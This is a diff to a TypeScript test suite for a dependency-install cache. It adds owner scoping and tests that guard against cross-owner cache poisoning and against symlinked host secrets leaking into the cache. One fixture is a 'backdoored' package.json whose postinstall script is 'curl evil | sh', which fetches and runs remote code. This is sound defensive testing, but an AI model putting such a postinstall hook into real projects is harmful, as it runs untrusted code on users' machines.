@@ -61,6 +61,7 @@ describe('DependencyInstaller', () => {
         workspaceDir: dir,
         environmentHash: 'env-1',
         cacheScope: 'workspace-1',
+        ownerScope: 'owner-1',
         run,
         onLog: () => {},
       });
@@ -109,6 +110,7 @@ describe('DependencyInstaller', () => {
           workspaceDir: dir,
           environmentHash: 'env-1',
           cacheScope,
+          ownerScope: 'owner-1',
           run,
           onLog: () => {},
         })
@@ -166,6 +168,78 @@ describe('DependencyInstaller', () => {
     await assert.rejects(installer.forget('../elsewhere'), /Not a cache scope/);
   });
 
+  it("keys an install by its whole manifest, scripts included, and never restores one owner's install into another owner's workspace", async () => {
+    const installer = new DependencyInstaller(join(root, 'cache-owners'));
+    // Writes the manifest into the artifact, so whose install was restored can be told.
+    const locked: InstallPlan = {
+      ...plan,
+      script: 'mkdir -p node_modules && cp package.json node_modules/installed-from && echo installing',
+    };
+    const install = async (dir: string, ownerScope: string) =>
+      (
+        await installer.install([locked], {
+          workspaceDir: dir,
+          environmentHash: 'env-1',
+          cacheScope: dir.split('/').pop()!,
+          ownerScope,
+          run,
+          onLog: () => {},
+        })
+      )[0]!.result;
+    const clean = '{"name":"app","scripts":{"test":"true"}}';
+    const backdoored = '{"name":"app","scripts":{"test":"true","postinstall":"curl evil | sh"}}';
+    const at = async (name: string, manifest: string) => {
+      const dir = await workspace(name, 'lock v1');
+      await writeFile(join(dir, 'repo', 'package.json'), manifest);
+      return dir;
+    };
+    const before = runs;
+    const mallory = await at('mallory-1', backdoored);
+    assert.equal(await install(mallory, 'owner-mallory'), 'installed');
+    assert.equal(runs, before + 1);
+
+    // The same lockfile with other scripts is another install, for its own owner too.
+    const malloryClean = await at('mallory-2', clean);
+    assert.equal(await install(malloryClean, 'owner-mallory'), 'installed');
+    assert.equal(runs, before + 2);
+    assert.equal(await readFile(join(malloryClean, 'repo', 'node_modules', 'installed-from'), 'utf8'), clean);
+
+    // Another owner with byte-identical files installs for itself, never from Mallory's entry.
+    const alice = await at('alice-1', backdoored);
+    assert.equal(await install(alice, 'owner-alice'), 'installed', "another owner's install is not restored");
+    assert.equal(runs, before + 3);
+    const aliceClean = await at('alice-2', clean);
+    assert.equal(await install(aliceClean, 'owner-alice'), 'installed');
+    assert.equal(runs, before + 4);
+
+    // An owner's own identical install is still served from the cache.
+    const aliceAgain = await at('alice-3', clean);
+    assert.equal(await install(aliceAgain, 'owner-alice'), 'cached');
+    assert.equal(runs, before + 4);
+    await assert.rejects(install(await at('nobody', clean), '../elsewhere'), /Not a cache scope/);
+  });
+
+  it('does not wait on a FIFO for its record of what is installed, and saves no symlinked artifact', async () => {
+    const installer = new DependencyInstaller(join(root, 'cache-fifo-record'));
+    const dir = await workspace('fifo-record', 'lock fifo');
+    await mkdir(join(dir, '.nixspace'), { recursive: true });
+    await execFileAsync('mkfifo', [join(dir, '.nixspace', 'installed.json')]);
+    await mkdir(join(root, 'host-dir'), { recursive: true });
+    await writeFile(join(root, 'host-dir', 'host-secret'), 'SIGNINGKEY');
+    const linking: InstallPlan = { ...plan, script: `ln -s ${join(root, 'host-dir')} node_modules` };
+    const [outcome] = await installer.install([linking], {
+      workspaceDir: dir,
+      environmentHash: 'env-1',
+      cacheScope: 'fifo-record',
+      ownerScope: 'owner-1',
+      run,
+      onLog: () => {},
+    });
+    assert.equal(outcome?.result, 'installed');
+    const saved = await readdir(join(root, 'cache-fifo-record'), { recursive: true });
+    assert.ok(!saved.some((path) => String(path).includes('host-secret')), saved.join('\n'));
+  });
+
   it('moves a lockfile the install wrote out of the checkout into the cache entry, and never a committed one', async () => {
     const cacheDir = join(root, 'cache-written');
     const installer = new DependencyInstaller(cacheDir);
@@ -185,6 +259,7 @@ describe('DependencyInstaller', () => {
           workspaceDir: dir,
           environmentHash: 'env-1',
           cacheScope: 'workspace-1',
+          ownerScope: 'owner-1',
           run,
           onLog: (line) => logs.push(line),
         })
@@ -225,6 +300,7 @@ describe('DependencyInstaller', () => {
           workspaceDir: dir,
           environmentHash: 'env-1',
           cacheScope: 'workspace-1',
+          ownerScope: 'owner-1',
           run,
           onLog: () => {},
         })
